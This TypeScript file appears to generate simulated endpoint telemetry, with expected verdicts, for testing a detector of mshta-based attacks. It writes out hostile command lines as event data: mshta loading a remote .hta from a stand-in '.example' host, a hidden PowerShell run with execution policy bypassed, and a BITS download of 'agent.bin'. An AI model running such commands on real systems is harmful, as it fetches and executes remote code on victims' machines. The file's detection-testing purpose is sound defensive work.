import type { Micros } from '../../base/time';
import { type Day, later } from '../day';
import { CMD, CONHOST, type Desk, POWERSHELL } from '../noise/desk';
import type { PlantedChain } from '../truth';

const MSHTA = 'C:\\Windows\\System32\\mshta.exe';

/**
 * mshta with a remote page, AN1397: a pasted command in a shell. mshta lives under a second and the child
 * outlives it, as in public recordings.
 *
 *   explorer ── cmd ── mshta https://… ── writes ….ps1 ── powershell ── calls out
 */
export function tellMshtaPaste(day: Day, desk: Desk, at: Micros): readonly PlantedChain[] {
  const { sensor, machine, random } = day;
  const name = `${random.pick(['verify', 'helpdesk', 'update'])}-${random.hex(4)}.example`;
  const address = `203.0.113.${random.int(20, 220)}`;
  const shell = sensor.starts(at, CMD, { parent: desk.explorer, commandLine: `"${CMD}" ` });
  const console = sensor.starts(later(at, 40), CONHOST, {
    parent: shell,
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
  });
  const launch = later(at, 21_400);
  const mshta = sensor.starts(launch, MSHTA, {
    parent: shell,
    commandLine: `mshta  https://${name}/v/check.hta`,
  });
  sensor.loads(later(launch, 90), mshta, [
    'C:\\Windows\\System32\\mshtml.dll',
    'C:\\Windows\\System32\\vbscript.dll',
    'C:\\Windows\\System32\\wshom.ocx',
    'C:\\Windows\\System32\\scrrun.dll',
  ]);
  sensor.resolves(later(launch, 160), mshta, name, address);
  sensor.connects(later(launch, 210), mshta, address, 443);
  sensor.writes(
    later(launch, 480),
    mshta,
    `${machine.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\${random.hex(8).toUpperCase()}\\check[1].hta`,
  );
  const payload = `${machine.home}\\AppData\\Local\\Temp\\${random.hex(7)}.ps1`;
  sensor.writes(later(launch, 620), mshta, payload);
  const powershell = sensor.starts(later(launch, 700), POWERSHELL, {
    parent: mshta,
    commandLine: `"${POWERSHELL}" -nop -w hidden -ep bypass -File "${payload}"`,
  });
  sensor.ends(later(launch, 930), mshta);
  sensor.runsScript(
    later(launch, 1500),
    powershell,
    `Start-BitsTransfer -Source https://${name}/v/agent.bin -Destination $env:TEMP`,
  );
  sensor.resolves(later(launch, 1900), powershell, name, address);
  sensor.connects(later(launch, 2000), powershell, address, 443);
  sensor.ends(later(launch, 240_000), powershell);
  sensor.ends(later(launch, 300_000), shell);
  sensor.ends(later(launch, 300_020), console);

  return [
    {
      analytic: 'AN1397',
      host: machine.host.toLowerCase(),
      status: 'complete',
      anchor: day.named(mshta),
      processes: [shell, mshta, powershell].map(day.named),
      stages: {
        matched: ['execution', 'lineage', 'file_write', 'network', 'child_process', 'ie_context'],
        absent: [],
        blind: [],
      },
      story: `mshta ran https://${name}/v/check.hta from a shell, wrote a script and started PowerShell`,
    },
  ];
}

/**
 * mshta with a remote page and nothing after it: stopped within a fifth of a second. Worth a look because the
 * page is remote; not complete. On a host without network telemetry nobody can say whether it called out.
 */
export function tellMshtaAlone(
  day: Day,
  desk: Desk,
  at: Micros,
  networkSeen: boolean,
): readonly PlantedChain[] {
  const { sensor, machine, random } = day;
  const name = `survey-${random.hex(4)}.example`;
  const mshta = sensor.starts(at, MSHTA, {
    parent: desk.explorer,
    commandLine: `"${MSHTA}" https://${name}/form.hta`,
  });
  sensor.ends(later(at, 190), mshta);
  return [
    {
      analytic: 'AN1397',
      host: machine.host.toLowerCase(),
      status: 'partial',
      anchor: day.named(mshta),
      processes: [day.named(mshta)],
      stages: {
        matched: ['execution'],
        absent: networkSeen ? ['file_write', 'network', 'child_process'] : ['file_write', 'child_process'],
        blind: networkSeen ? [] : ['network'],
      },
      story: `mshta was started with https://${name}/form.hta and nothing is known to have followed`,
    },
  ];
}
